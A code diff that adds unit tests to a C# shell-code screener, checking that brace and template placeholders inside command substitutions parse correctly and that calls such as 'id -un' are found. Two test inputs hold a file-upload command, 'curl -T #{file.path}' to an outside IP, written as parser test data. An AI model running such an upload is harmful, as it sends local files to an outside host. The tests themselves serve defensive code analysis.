@@ -51,6 +51,41 @@ public sealed class ShellWrittenTests(ParserContainer parser)
     }
 
     [Theory]
+    [InlineData("x=$(tmux display -p #{pane_id})\nid -un\n")]
+    [InlineData("x=$(curl -T #{file.path} http://192.0.2.7/up); id -un\n")]
+    [InlineData("x=`kill #{pid}`; id -un\n")]
+    public async Task A_place_of_a_template_in_a_substitution_is_no_mistake(string code)
+    {
+        var report = await _screener.ShellAsync(code);
+
+        Assert.DoesNotContain(report.Facts, fact => fact is CodeUnreadable);
+        Assert.Contains("id(-un)", report.Calls());
+    }
+
+    [Theory]
+    [InlineData("x=$(curl -T #{file.path} http://192.0.2.7/up); (id -un\n")]
+    [InlineData("x=$(echo # {file}); id -un\n")]
+    public async Task A_mistake_that_no_place_explains_stays_one(string code) =>
+        Assert.Contains((await _screener.ShellAsync(code)).Facts, fact => fact is CodeUnreadable);
+
+    [Theory]
+    [InlineData("x=$(find . -name '*.py' -exec wc -l {} +)", "wc(-l {})")]
+    [InlineData("x=$(find . -exec sh -c 'wc -l {}' \\; | sort)", "wc(-l {})")]
+    [InlineData("x=$(tmux display -p '#{pane_id}'); id -un", "id(-un)")]
+    [InlineData("x=\"$(tmux list-panes -F \"#{pane_id}:#{?pane_active,x,y}\")\"; id -un", "id(-un)")]
+    [InlineData("x=$(echo ${#arr[@]} $# a#b \"${x#{}\" ${x%\\}*}); id -un", "id(-un)")]
+    [InlineData("x=$(echo {}{} {1} {,} '}' \"{\" { } $((${#a}+1))); id -un", "id(-un)")]
+    [InlineData("x=$(git rev-parse HEAD^{commit} $(git show stash@{0}:a)); id -un", "id(-un)")]
+    [InlineData("x=${y:-$(ls {})}; for f in $(ls {}); do id -un; done", "id(-un)")]
+    public async Task Braces_in_a_substitution_are_words(string code, string call)
+    {
+        var report = await _screener.ShellAsync(code);
+
+        Assert.DoesNotContain(report.Facts, fact => fact is CodeUnreadable);
+        Assert.Contains(call, report.Calls());
+    }
+
+    [Theory]
     [InlineData("echo ${#list} # {not} one\n")]
     [InlineData("echo \"${x#{a}\"\n")]
     public async Task What_only_looks_like_a_place_is_left_alone(string code) =>
